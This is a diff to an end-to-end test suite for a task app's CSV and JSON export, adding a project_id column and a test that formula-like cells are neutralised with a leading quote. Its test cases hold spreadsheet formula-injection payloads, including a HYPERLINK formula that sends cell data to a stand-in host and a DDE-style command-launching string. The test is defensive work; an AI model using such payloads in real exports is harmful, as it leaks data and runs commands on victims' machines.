@@ -27,6 +27,7 @@ const CSV_HEADER = [
   'status',
   'priority',
   'user_id',
+  'project_id',
   'assignee_id',
   'due_date',
   'completed_at',
@@ -212,6 +213,42 @@ describe('Task exports and job status (e2e)', () => {
     expect(rows[2][2]).toBe('line 1\nline 2, with "quotes"\r\nend');
     expect(rows[1][6]).toBe(String(owner.id));
     expect(rows[2][6]).toBe('');
+  });
+
+  it('should prefix formula-like text cells with a quote in CSV and keep JSON as stored', async () => {
+    const user = await signUp(t.http);
+    // [title, description] as stored, then as the CSV cells must read.
+    const cases: Array<[string, string, string, string]> = [
+      [
+        '=HYPERLINK("http://evil.example/?d="&A1,"open")',
+        '',
+        `'=HYPERLINK("http://evil.example/?d="&A1,"open")`,
+        '',
+      ],
+      ['+1+cmd|" /C calc"!A0', '\tvia tab', `'+1+cmd|" /C calc"!A0`, "'\tvia tab"],
+      ['-2+3', '\r=1+1', "'-2+3", "'\r=1+1"],
+      ['@SUM(1,2)', '=1', "'@SUM(1,2)", "'=1"],
+      ['plain = text', 'a-b @c', 'plain = text', 'a-b @c'],
+    ];
+    for (const [title, description] of cases) {
+      await createTask(t.http, user, { title, description });
+    }
+
+    const csv = await exportText(t.http, user, { format: 'csv', sort: 'title', order: 'asc' });
+    const records = parseCsv(csv.text.slice(BOM.length)).slice(1);
+    const cells = (record: string[]): [string, string] => [record[1], record[2]];
+    expect(records.map(cells).sort()).toEqual(
+      cases.map(([, , title, description]): [string, string] => [title, description]).sort(),
+    );
+
+    const json = await exportText(t.http, user, { format: 'json' });
+    const exported = (JSON.parse(json.text) as TaskJson[]).map((task): [string, string] => [
+      task.title,
+      task.description,
+    ]);
+    expect(exported.sort()).toEqual(
+      cases.map(([title, description]): [string, string] => [title, description]).sort(),
+    );
   });
 
   it('should export JSON in the requested sort, equal to the listing', async () => {
